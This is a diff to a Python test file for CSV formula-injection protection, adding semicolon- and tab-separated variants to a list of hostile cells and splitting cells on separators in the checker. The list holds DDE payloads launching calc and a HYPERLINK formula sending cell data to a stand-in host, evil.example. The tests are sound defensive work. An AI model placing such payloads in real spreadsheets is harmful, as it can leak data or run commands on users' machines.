@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 from pathlib import Path
 
 import pytest
@@ -16,18 +17,34 @@ from tests.conftest import ROOT
 HOSTILE = [
     '=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
     "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
+    "x;=1+1", "x;'=1+1", "x; -1+1", "x;;\t=1+1", "x\n=1+1", "x\t@a", "1;-5",
     "=", "+", "-", "@", "'=1+1", "''@x", " =1+1", "＝1+1", "－1", "+a", "-a", '"=1+1"', "=1,2", "=1;2",
 ]  # fmt: skip
-HARMLESS = ["-1", "+1", "-1.5e-3", "-inf", "nan", "north", "'n/a", "a=b", "1-2", "", "ann's"]
+HARMLESS = [
+    "-1",
+    "+1",
+    "-1.5e-3",
+    "-inf",
+    "nan",
+    "north",
+    "'n/a",
+    "a=b",
+    "1-2",
+    "",
+    "ann's",
+    "a; b",
+]
 texts = st.builds("".join, st.lists(st.sampled_from([*"=+-@\t\r\n' \"',;a1.", "＝"]), max_size=8))
 
 
 def is_run(cell: str) -> bool:
-    """Whether a spreadsheet would compute a cell: of OWASP's list, and no number."""
+    """Whether a spreadsheet would compute a cell, or a part of it: of OWASP's list, and no number."""
     try:
         float(cell)
     except ValueError:
-        return cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))
+        # Semicolons, or tabs, separate cells in other settings; then a line break may end a row as well.
+        parts = re.split("(?<=[;\t\r\n])", cell)
+        return any(part.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠")) for part in parts)
     return False
 
 
@@ -60,7 +77,7 @@ def test_no_text_is_run_and_each_comes_back(cell: str) -> None:
 def test_levels_and_columns_that_look_like_formulas_are_read_again(
     tmp_path: Path, private: bool
 ) -> None:
-    cells = [cell for cell in HOSTILE if cell == cell.strip() and "\r" not in cell]
+    cells = [cell for cell in HOSTILE if cell == cell.strip() and not set(cell) & set("\r\n")]
     path = tmp_path / "synthetic.csv"
     with path.open("w", newline="", encoding="utf-8") as file:
         spreadsheets.write(file, [cells, cells])
